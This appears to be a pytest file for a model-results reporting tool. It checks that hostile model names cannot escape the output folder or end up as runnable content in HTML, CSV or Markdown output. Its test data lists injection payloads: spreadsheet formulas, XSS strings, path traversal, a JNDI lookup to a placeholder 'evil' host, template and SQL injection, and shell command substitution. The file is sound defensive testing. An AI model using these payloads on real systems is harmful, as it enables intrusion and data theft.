"""Published results whose models are named to break out: of files, pages, spreadsheets and terminals. No command is taken in."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pytest

from ray_app.__main__ import main
from tests.published_folder import TASKS, model_line, write_models, write_pretrained

ARCH = "acme/tiny_1"
"""Its underscore is another architecture's slash: acme_tiny/1 has the same name but for that."""
NAMES = [
    "=HYPERLINK(\"https://evil\")", "+1", "-1+1", "@SUM(1)", "\t=1", "a\r=1", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))", "| a | b |\n| c |", "../../../../escaped", "/etc/escaped", "C:\\escaped", "con", "nul.txt", "a/b", "a_b", "A_b",
    "x" * 3000, "[/red]", "\x1b[31mred\x1b]0;title\x07", "a\u202eb", "${jndi:ldap://evil}", "{{7*7}}", "{% raw %}", "'; drop table runs; --",
    "gооgle/t5", "google/t5", "%2e%2e%2f", "`id`", "$(id)",
]  # fmt: skip


def scores(number: int) -> dict[str, float]:
    """Scores like no other model's, of 200 test rows each."""
    chance = np.random.default_rng(number)
    return {task: round(0.5 + place / 200 + 0.02 * chance.standard_normal(), 3) for place, task in enumerate(TASKS)}


def test_two_architectures_of_one_published_file_name_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The format itself makes '_' of '/' and '-': the second is told."""
    write_models(tmp_path, [model_line("org/x", 0.5, 0.9, arch=arch) for arch in (ARCH, "acme_tiny/1")])
    write_pretrained(tmp_path, [0.5, 0.5625, 0.625], arch=ARCH)
    assert main(["import-published", f"FROM={tmp_path}", f"OUT={tmp_path / 'out'}"]) == 2
    assert "share the file name models_results_acme_tiny_1_pretrain.csv" in capsys.readouterr().err


@pytest.mark.slow
def test_hostile_names_go_through_every_command(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "from").mkdir()
    lines = [model_line(name, 0.5, scores(number), arch=ARCH) for number, name in enumerate(NAMES)]
    write_models(tmp_path / "from", lines)
    write_pretrained(tmp_path / "from", [scores(1000 + seed) for seed in range(3)], arch=ARCH)
    place = tmp_path / "a" / "b" / "c" / "out"
    before = outside(tmp_path, place)
    for command in (
        ["import-published", f"FROM={tmp_path / 'from'}"],
        ["rank", f"ARCH={ARCH}"],
        ["report"],
        *(
            ["card", f"ARCH={ARCH}", f"MODEL={name}"]
            for name in ("<script>alert(1)</script>", "../../../../escaped", "con")
        ),
    ):
        assert main([*command, f"OUT={place}"]) == 0, (command, capfd.readouterr())
    assert outside(tmp_path, place) == before
    said = capfd.readouterr()
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e]", said.out + said.err)
    check_files(place)


def outside(root: Path, place: Path) -> set[Path]:
    """Files that are not in the output folder."""
    return {path for path in root.rglob("*") if path.is_file() and not path.is_relative_to(place)}


def check_files(place: Path) -> None:
    """Nothing that a browser, a spreadsheet or Markdown would run."""
    pages, sheets, texts = (sorted(place.rglob(f"*.{kind}")) for kind in ("html", "csv", "md"))
    assert len(pages) > len(NAMES) and len(sheets) >= 4 and len(texts) >= 4
    for page in pages:
        source = page.read_text()
        assert "<script>alert" not in source and "<img src=x" not in source, page
        assert not re.search(r"""(?:href|src)\s*=\s*["']?\s*javascript:""", source), page
        assert "{{" not in source.replace("{{7*7}}", "") and source != "49", page
    for sheet in sheets:
        for row in csv.reader(io.StringIO(sheet.read_bytes().decode(), newline="")):
            for cell in row:
                is_number = re.fullmatch(r"[+-]?[0-9.]+(e[+-]?[0-9]+)?", cell)
                assert is_number or not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) or cell == "-", (
                    sheet,
                    cell,
                )
    for text in texts:
        assert "<script" not in text.read_text() and "](javascript:" not in text.read_text(), text
